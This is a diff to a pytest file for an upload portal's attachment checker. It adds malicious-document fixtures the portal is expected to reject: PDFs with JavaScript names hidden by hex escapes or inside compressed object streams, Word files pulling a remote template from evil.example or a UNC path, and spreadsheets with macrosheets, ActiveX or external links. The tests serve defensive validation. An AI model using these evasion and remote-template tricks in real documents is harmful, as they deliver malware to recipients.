@@ -7,6 +7,7 @@ import io
 import os
 import time
 import zipfile
+import zlib
 from types import SimpleNamespace
 
 import pytest
@@ -45,6 +46,19 @@ def jpeg(**options: object) -> bytes:
     return out.getvalue()
 
 
+def docx(**parts: bytes) -> bytes:
+    return package({"[Content_Types].xml": b"<x/>", "word/document.xml": b"<x/>"} | parts)
+
+
+def relation(kind: str, target: str) -> dict[str, bytes]:
+    tag = f'<Relationship Id="r1" TargetMode="External" Type="http://x/relationships/{kind}" Target="{target}"/>'
+    return {"word/_rels/settings.xml.rels": f"<Relationships>{tag}</Relationships>".encode()}
+
+
+def packed_pdf(objects: bytes) -> bytes:
+    return PDF + b"2 0 obj\n<< /Type /ObjStm >>\nstream\n" + zlib.compress(b"3 0 " + objects) + b"\nendstream"
+
+
 DOCX = package({"[Content_Types].xml": b"<x/>", "word/document.xml": b"<x/>"})
 XLSX = package({"xl/workbook.xml": b"<x/>", "[Content_Types].xml": b"<x/>"})
 GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
@@ -62,7 +76,10 @@ def named(value):
         ("说明.pdf", PDF, attachment.PDF),
         ("照片.JPG", jpeg(), "image/jpeg"),
         ("照片.png", png(), "image/png"),
+        ("文字.pdf", packed_pdf(b"<< /Type /Page >>"), attachment.PDF),
         ("申请.docx", DOCX, attachment.DOCX),
+        ("链接.docx", docx(**relation("hyperlink", "https://example.org")), attachment.DOCX),
+        ("模板.docx", docx(**relation("attachedTemplate", "file:///C:\\Word\\Normal.dotm")), attachment.DOCX),
         ("名单.xlsx", XLSX, attachment.XLSX),
     ],
     ids=named,
@@ -88,6 +105,23 @@ def test_what_the_portal_takes(name, content, media_type):
         ("坏.xlsx", XLSX[:60], "damaged"),
         ("两面.pdf", PDF + DOCX, "carries scripts or other files"),
         ("脚本.pdf", PDF + b"<< /S /JavaScript /JS (app.alert(1)) >>", "carries scripts or other files"),
+        ("改写.pdf", PDF + b"<< /S/Java#53cript >>", "carries scripts or other files"),
+        ("改写.pdf", PDF + b"<< /#4AavaScr#69pt (x) >>", "carries scripts or other files"),
+        ("打包.pdf", packed_pdf(b"<< /S /Java#53cript >>"), "carries scripts or other files"),
+        (
+            "远程模板.docx",
+            docx(**relation("attachedTemplate", "http://evil.example/t.dotm")),
+            "carries macros",
+        ),
+        ("远程模板.docx", docx(**relation("attachedTemplate", "file:///\\\\evil\\t.dotm")), "carries macros"),
+        ("对象.docx", docx(**{"word/embeddings/oleObject1.bin": b"x"}), "carries macros"),
+        (
+            "外链.xlsx",
+            package({"xl/workbook.xml": b"", "xl/externalLinks/externalLink1.xml": b""}),
+            "carries macros",
+        ),
+        ("宏表.xlsx", package({"xl/workbook.xml": b"", "xl/macrosheets/sheet1.xml": b""}), "carries macros"),
+        ("控件.xlsx", package({"xl/workbook.xml": b"", "xl/activeX/activeX1.xml": b""}), "carries macros"),
         ("宏.xlsx", package({"xl/workbook.xml": b"", "xl/vbaProject.bin": b""}), "macros"),
         ("炸弹.xlsx", package({"xl/workbook.xml": b"0" * 9_000_000}), "too large inside"),
         ("多.xlsx", package({f"xl/{n}.xml": b"" for n in range(2_001)}), "too large inside"),
